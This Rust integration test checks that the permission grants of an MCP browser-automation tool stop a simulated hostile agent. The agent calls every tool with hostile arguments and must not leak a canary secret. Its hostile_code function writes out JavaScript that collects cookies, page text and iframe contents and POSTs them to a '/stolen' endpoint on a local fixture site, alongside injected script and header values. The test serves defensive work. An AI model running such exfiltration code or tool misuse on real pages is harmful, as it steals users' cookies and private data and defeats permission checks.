//! An agent that calls every tool with hostile arguments, once for every missing grant. No canary may come out.

use serde_json::{Value, json};
use tabwire_policy::Capability;

use crate::mcp::arguments::arguments;
use crate::mcp::client::McpClient;
use crate::policy::actions::corpus::files_with_canary;
use crate::policy::grants::{allow, revoke_all};
use crate::support::fixture_site::FixtureSite;
use crate::support::world::World;

/// Text in every part of the ungranted pages.
const CANARY: &str = "CANARY";

/// Tools that end resources of the others, or wait for a user.
const LEFT_OUT: [&str; 3] = ["tab_close", "login", "more"];

/// Code that reads frames, fetches other sites, and sends away what the page shows.
fn hostile_code(other: &str, stolen: &str) -> String {
    format!(
        "(async () => {{
            const said = [document.cookie, document.body.innerText];
            for (const frame of document.querySelectorAll('iframe'))
                try {{ said.push(frame.contentDocument.body.innerText) }} catch (error) {{ said.push(error.name) }}
            try {{ said.push(await (await fetch('{other}')).text()) }} catch (error) {{ said.push(error.name) }}
            try {{ await fetch('{stolen}', {{method: 'POST', mode: 'no-cors', body: said.join()}}) }} catch {{}}
            return said.join();
        }})()"
    )
}

/// A value that makes an argument refer to another site or file.
fn hostile_value(name: &str, other: &str, stolen: &str) -> Option<Value> {
    Some(match name {
        "url" | "to_url" | "origin" | "partition" => json!(other),
        "origins" => json!([other]),
        "domain" => json!("b.localhost"),
        "expression" | "function" | "script" => json!(hostile_code(other, stolen)),
        "body" => json!(format!("<script>{}</script>", hostile_code(other, stolen))),
        "headers" | "header" | "set_header" => json!(["Authorization: Basic eDp5"]),
        "grant" => json!(["clipboard-read"]),
        "selector" => json!("#secret"),
        "point" | "at" => json!([150, 250]),
        "frame" => json!("x.a.localhost"),
        "number" => json!(1),
        "save" => json!(["response-body"]),
        "output" | "path" | "directory" | "file" => json!("stolen.bin"),
        _ => return None,
    })
}

/// The arguments of a tool: valid ones, then with each value that refers elsewhere.
fn hostile_arguments(tool: &Value, site: &FixtureSite) -> Vec<Value> {
    let (other, stolen) = (site.url("b", "/policy/secret"), site.url("b", "/stolen"));
    let properties = tool["inputSchema"]["properties"].as_object().cloned().unwrap_or_default();
    let mut all = arguments(tool, site);
    for given in &mut all {
        for (name, value) in given.as_object_mut().into_iter().flatten() {
            *value = hostile_value(name, &other, &stolen).unwrap_or_else(|| value.take());
        }
    }
    // One hostile argument at a time: together, one invalid argument would end the call early.
    let plain = all.first().cloned().unwrap_or_default();
    for name in properties.keys() {
        if let Some(value) = hostile_value(name, &other, &stolen) {
            let mut given = plain.clone();
            given[name] = value;
            all.push(given);
        }
    }
    all.dedup();
    all
}

#[test]
fn a_hostile_agent_gets_no_canary_without_the_grant() {
    let (world, site) = (World::new(), FixtureSite::start());
    let own = site.page("").trim_end_matches('/').to_owned();
    let frame = site.url("x.a", "/policy/secret").replace(':', "%3A").replace('/', "%2F");
    let page = site.page(&format!("/policy/page?frame={frame}"));
    let mut client = McpClient::start(&world, &["--tools", "all", "--timeout", "80ms"]);
    let tools = client.ask("tools/list", json!({}))["result"]["tools"].as_array().expect("tools").clone();
    let mut calls = 0;
    for missing in Capability::ALL {
        revoke_all(&world);
        let flags: Vec<String> = Capability::ALL
            .iter()
            .filter(|one| *one != missing && **one != Capability::Read)
            .map(|one| format!("--{}", one.as_str()))
            .collect();
        if *missing != Capability::Read {
            let flags = flags.iter().map(String::as_str);
            allow(&world, &[own.as_str()].into_iter().chain(flags).collect::<Vec<_>>());
            client.call("navigate", json!({"url": page}));
        }
        let before = site.request_count("/stolen");
        for tool in &tools {
            let name = tool["name"].as_str().expect("a name");
            if LEFT_OUT.contains(&name) {
                continue;
            }
            for given in hostile_arguments(tool, &site) {
                let result = client.call(name, given.clone());
                calls += 1;
                let lacks = missing.as_str();
                assert!(!result.to_string().contains(CANARY), "{name} {given} without {lacks}: {result}");
            }
        }
        if *missing == Capability::Eval || *missing == Capability::Read {
            assert_eq!(site.request_count("/stolen"), before, "code ran without {}", missing.as_str());
        }
    }
    assert!(calls > 1000, "{calls} calls");
    client.close();
    client.process.wait().expect("it ends");
    world.run(&["daemon", "stop"]).succeeded();
    let found = files_with_canary(world.home());
    assert!(found.is_empty(), "files hold a canary: {found:?}");
}
